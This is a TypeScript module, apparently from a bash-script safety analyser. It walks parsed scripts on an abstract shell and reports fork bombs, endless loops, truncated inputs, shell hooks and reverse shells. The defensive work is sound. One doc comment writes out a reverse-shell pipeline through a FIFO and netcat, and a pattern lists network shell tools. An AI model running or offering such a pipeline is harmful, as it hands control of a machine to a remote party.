// Walks a parsed script as bash would run it, every branch taken, on an abstract shell. Simple
// commands are handed on; what they print flows through pipes, substitutions and files.
import type {
  AndOr,
  Case,
  Command,
  CommandNode,
  CompoundList,
  For,
  Function as FunctionNode,
  ParsedScript,
  Pipeline,
  PipelineNode,
  Redirection,
  Select,
  Statement,
  TestExpression,
  While,
  Word,
} from 'unbash';
import { CAPS } from '../caps.ts';
import { NOTHING, OPAQUE, type Stream, stream } from '../taint.ts';
import { walkArithmetic } from '../word/arithmetic.ts';
import { expandToText, expandWord } from '../word/expand.ts';
import type { Shell } from '../word/shell-state.ts';
import { spanOf } from '../word/source-span.ts';
import { hasGlob, UNKNOWN } from '../word/symbols.ts';
import { looksDestructive } from './destructive-text.ts';
import { isForkBomb } from './fork-bomb.ts';
import { expansion, type Frame, type Walker } from './frame.ts';
import { emptiedInput, movesOntoOne } from './own-input.ts';
import { openRedirects, type RedirectPlan } from './redirect.ts';
import { runSimple } from './simple.ts';

export function runScript(script: ParsedScript, shell: Shell, stdin: Stream, frame: Frame): Stream {
  if (script.errors?.length) {
    frame.engine.parseErrors = true;
    frame.engine.unreadableHarm ||= looksDestructive(frame.source.text);
  }
  return runStatements(script.commands, shell, stdin, frame);
}

function runStatements(statements: readonly Statement[], shell: Shell, stdin: Stream, frame: Frame): Stream {
  let output = NOTHING;
  for (const statement of statements) {
    if (frame.engine.exhausted) return OPAQUE;
    output = concat(output, runNode(statement.command, shell, stdin, frame));
  }
  return output;
}

export function concat(left: Stream, right: Stream): Stream {
  if (left.text === '' && left.taint === 0) return right;
  if (right.text === '' && right.taint === 0) return left;
  const text = left.text === null || right.text === null ? null : left.text + right.text;
  return stream(text !== null && text.length > CAPS.output ? null : text, left.taint | right.taint);
}

const runList = (list: CompoundList, shell: Shell, stdin: Stream, frame: Frame): Stream =>
  runStatements(list.commands, shell, stdin, frame);

function runNode(node: PipelineNode | AndOr, shell: Shell, stdin: Stream, frame: Frame): Stream {
  switch (node.type) {
    case 'AndOr':
      return runAndOr(node, shell, stdin, frame);
    case 'Pipeline':
      return runPipeline(node, shell, stdin, frame);
    default:
      return runCommandNode(node, shell, stdin, frame);
  }
}

function runAndOr(node: AndOr, shell: Shell, stdin: Stream, frame: Frame): Stream {
  let output = NOTHING;
  const before = shell.staysIn;
  node.commands.forEach((command, index) => {
    const conditional = index > 0;
    const run = () => frame.engine.conditionally(conditional, () => runNode(command, shell, stdin, frame));
    const operator = node.operators[index - 1];
    output = concat(
      output,
      operator === '&&'
        ? afterSuccess(shell, before, run)
        : operator === '||'
          ? afterFailure(shell, before, command, run)
          : run(),
    );
  });
  return output;
}

/** `cd DIR && …`: what runs here runs in DIR. What comes after the list may not. */
function afterSuccess(shell: Shell, before: string | null, run: () => Stream): Stream {
  const doubt = shell.staysIn;
  shell.staysIn = before;
  const output = run();
  if (shell.staysIn === before) shell.staysIn = doubt;
  return output;
}

/** `cd DIR || …`: what runs here runs where the shell was; where it leaves the shell, the rest runs in DIR. */
function afterFailure(shell: Shell, before: string | null, command: PipelineNode, run: () => Stream): Stream {
  const doubt = shell.staysIn;
  if (doubt === null || doubt === before) return run();
  const entered = shell.cwd;
  shell.cwd = doubt;
  shell.staysIn = before;
  const output = run();
  shell.cwd = entered;
  shell.staysIn = leavesShell(command) ? before : doubt;
  return output;
}

/** The last thing that a command does is to end the script, the function or the loop. */
function leavesShell(node: PipelineNode | Statement['command']): boolean {
  if (node.type === 'BraceGroup') {
    const last = node.body.commands.at(-1)?.command;
    return last !== undefined && leavesShell(last);
  }
  if (node.type !== 'Command') return false;
  return /^(?:exit|return|break|continue|die|fail|logout)$/.test(node.name?.value ?? '');
}

/** A file that is emptied before it is read is lost. */
function tellEmptied(node: Pipeline | Command, shell: Shell, frame: Frame): void {
  if (emptiedInput(node) === null) return;
  const span = spanOf(frame.source, node);
  frame.engine.report('empties-input', { program: 'shell', span, shell });
}

function runPipeline(node: Pipeline, shell: Shell, stdin: Stream, frame: Frame): Stream {
  let input = stdin;
  tellEmptied(node, shell, frame);
  const single = node.commands.length === 1;
  if (feedsShellToNetwork(node)) {
    frame.engine.report('reverse-shell', { program: 'shell', span: spanOf(frame.source, node), shell });
  }
  for (const [index, command] of node.commands.entries()) {
    if (frame.engine.exhausted) return OPAQUE;
    const piped = command.type === 'Command' && index < node.commands.length - 1;
    const inner = piped ? { ...frame, piped } : frame;
    input = runCommandNode(command, single ? shell : shell.fork(), input, inner);
  }
  return input;
}

/** `cat fifo | sh -i | nc host port > fifo`: the shell answers to the network. */
function feedsShellToNetwork(node: Pipeline): boolean {
  let shellSeen = false;
  for (const command of node.commands) {
    if (command.type !== 'Command') continue;
    const name = (command.name?.value ?? '').replace(/^.*\//, '');
    const words = command.args.map((arg) => (arg.type === 'Word' ? arg.value : ''));
    if (/^(?:ba|da|z|k|a)?sh$/.test(name) && words.every((word) => word.startsWith('-'))) {
      shellSeen = true;
    } else if (shellSeen && /^(?:nc|ncat|netcat|telnet|socat)$/.test(name)) return true;
    else if (shellSeen && name === 'openssl' && words.includes('s_client')) return true;
  }
  return false;
}

function runCommandNode(node: CommandNode, shell: Shell, stdin: Stream, frame: Frame): Stream {
  if (!frame.engine.step()) return OPAQUE;
  const { engine } = frame;
  switch (node.type) {
    case 'Command':
      tellEmptied(node, shell, frame);
      return runSimple(node as Command, shell, stdin, frame);
    case 'Subshell':
      return engine.nested(shell.fork(), (inner) => runList(node.body, inner, stdin, frame));
    case 'BraceGroup':
      return engine.nested(shell, () => runList(node.body, shell, stdin, frame));
    case 'If': {
      const before = shell.staysIn;
      let output = runList(node.clause, shell, stdin, frame);
      const doubt = shell.staysIn;
      const branch = (list: CompoundList) => {
        output = concat(
          output,
          engine.conditionally(true, () => runList(list, shell, stdin, frame)),
        );
      };
      shell.staysIn = before;
      branch(node.then);
      shell.staysIn = doubt;
      for (const other of node.elif) {
        branch(other.clause);
        branch(other.then);
      }
      if (node.else) branch(node.else);
      return output;
    }
    case 'For':
      if (movesOntoOne(node))
        engine.report('moves-onto-one', { program: 'shell', span: spanOf(frame.source, node), shell });
      return runFor(node, shell, stdin, frame);
    case 'Select':
      return runFor(node, shell, stdin, frame);
    case 'While':
      return runWhile(node, shell, stdin, frame);
    case 'ArithmeticFor':
      if (!isFiniteLoop(node.test)) engine.reportEndless(node.body, shell, frame.source, node);
      walkArithmetic(node.initialize, expansion(shell, frame));
      walkArithmetic(node.test, expansion(shell, frame));
      walkArithmetic(node.update, expansion(shell, frame));
      return runList(node.body, shell, stdin, frame);
    case 'Case':
      return runCase(node, shell, stdin, frame);
    case 'TestCommand':
      walkTest(node.expression, shell, frame);
      return NOTHING;
    case 'ArithmeticCommand':
      walkArithmetic(node.expression, expansion(shell, frame));
      return NOTHING;
    case 'Function':
      return defineFunction(node, shell, frame);
    case 'Coproc': {
      const body = node.body;
      if (body.type === 'CompoundList') return runList(body, shell.fork(), stdin, frame);
      return runCommandNode(body, shell.fork(), stdin, frame);
    }
    case 'Redirected':
      return runRedirected(node.command, node.redirects, shell, stdin, frame);
  }
}

function runRedirected(
  node: CommandNode,
  redirects: readonly Redirection[],
  shell: Shell,
  stdin: Stream,
  frame: Frame,
): Stream {
  const plan: RedirectPlan = openRedirects(redirects, shell, stdin, frame);
  const output = runCommandNode(node, shell, plan.stdin, frame);
  return plan.close(output);
}

function runFor(node: For | Select, shell: Shell, stdin: Stream, frame: Frame): Stream {
  const words = node.wordlist?.flatMap((word) => expandWord(word, expansion(shell, frame)));
  const texts = words?.map((word) => word.text) ?? shell.positional ?? [UNKNOWN];
  const taint = words?.reduce((all, word) => all | word.taint, 0) ?? 0;
  const followed = texts.slice(0, CAPS.iterations);
  if (texts.length > followed.length) {
    // What was not followed one by one is followed as anything.
    followed.push(texts.find((text) => text.startsWith('/') && hasGlob(text)) ?? UNKNOWN);
  }
  let output = NOTHING;
  for (const text of followed) {
    if (frame.engine.exhausted) return OPAQUE;
    shell.assign(node.name.value, text, taint);
    output = concat(output, runList(node.body, shell, stdin, frame));
  }
  return output;
}

function runWhile(node: While, shell: Shell, stdin: Stream, frame: Frame): Stream {
  const { engine } = frame;
  if (isEndless(node)) engine.reportEndless(node.body, shell, frame.source, node);
  const lines = stdin.text === null ? null : stdin.text.split('\n').filter((line) => line !== '');
  if (!lines || lines.length < 2) {
    const clause = runList(node.clause, shell, stdin, frame);
    return concat(clause, runList(node.body, shell, stdin, frame));
  }
  let output = NOTHING;
  for (const line of lines.slice(0, CAPS.iterations)) {
    const input = stream(line, stdin.taint);
    runList(node.clause, shell, input, frame);
    output = concat(output, runList(node.body, shell, input, frame));
  }
  return lines.length > CAPS.iterations ? OPAQUE : output;
}

function isEndless(node: While): boolean {
  const command = node.clause.commands[0]?.command;
  if (node.clause.commands.length !== 1 || command === undefined) return false;
  if (command.type === 'ArithmeticCommand') return command.body.trim() !== '0';
  const name = command.type === 'Command' ? command.name?.value : undefined;
  return node.kind === 'while' ? name === 'true' || name === ':' || name === '[' || name === 'test' : name === 'false';
}

const isFiniteLoop = (test: unknown): boolean => test !== undefined;

function runCase(node: Case, shell: Shell, stdin: Stream, frame: Frame): Stream {
  expandToText(node.word, expansion(shell, frame));
  let output = NOTHING;
  for (const item of node.items) {
    for (const pattern of item.pattern) expandToText(pattern, expansion(shell, frame));
    output = concat(
      output,
      frame.engine.conditionally(true, () => runList(item.body, shell, stdin, frame)),
    );
  }
  return output;
}

/** What is compared by these is arithmetic. */
const COMPARES_NUMBERS = /^-(?:eq|ne|lt|le|gt|ge)$/;

function walkTest(expression: TestExpression, shell: Shell, frame: Frame): void {
  const expand = (word: Word) => expandToText(word, expansion(shell, frame));
  const evaluate = (text: string) => frame.engine.evaluate(text, shell, frame.source.span);
  switch (expression.type) {
    case 'TestUnary': {
      const { text } = expand(expression.operand);
      if (/^-[vR]$/.test(expression.operator)) evaluate(text);
      return;
    }
    case 'TestBinary': {
      const sides = [expand(expression.left), expand(expression.right)];
      if (COMPARES_NUMBERS.test(expression.operator)) for (const { text } of sides) evaluate(text);
      return;
    }
    case 'TestLogical':
      for (const operand of expression.operands) walkTest(operand, shell, frame);
      return;
    case 'TestNot':
      walkTest(expression.operand, shell, frame);
      return;
    case 'TestGroup':
      walkTest(expression.expression, shell, frame);
      return;
  }
}

/** Functions that a shell itself calls, so that defining them is running them. */
const HOOKS =
  /^(?:command_not_found_handle|command_not_found_handler|precmd|preexec|chpwd|periodic|zshexit|zshaddhistory|TRAP[A-Z]+|fish_\w+|PROMPT_COMMAND)$/;

function defineFunction(node: FunctionNode, shell: Shell, frame: Frame): Stream {
  const name = node.name.value;
  shell.functions.set(name, { body: node.body, source: frame.source });
  const span = spanOf(frame.source, node);
  if (isForkBomb(name, node.body)) {
    frame.engine.report('fork-bomb', { program: name, span, shell });
  }
  if (HOOKS.test(name)) callFunction(name, [], shell, NOTHING, frame.engine);
  else frame.engine.definedFunctions.add(name);
  return NOTHING;
}

/** Runs the body of a function defined on this line with these arguments. */
export function callFunction(name: string, args: string[] | null, shell: Shell, stdin: Stream, engine: Walker): Stream {
  const definition = shell.functions.get(name);
  if (!definition) return OPAQUE;
  engine.definedFunctions.delete(name);
  return engine.nested(shell, () => {
    const before = shell.positional;
    shell.positional = args;
    const body = definition.body as FunctionNode['body'];
    const frame: Frame = { engine, source: definition.source };
    const output =
      body.type === 'CompoundList'
        ? runList(body, shell, stdin, frame)
        : runCommandNode(body as CommandNode, shell, stdin, frame);
    shell.positional = before;
    return output;
  });
}
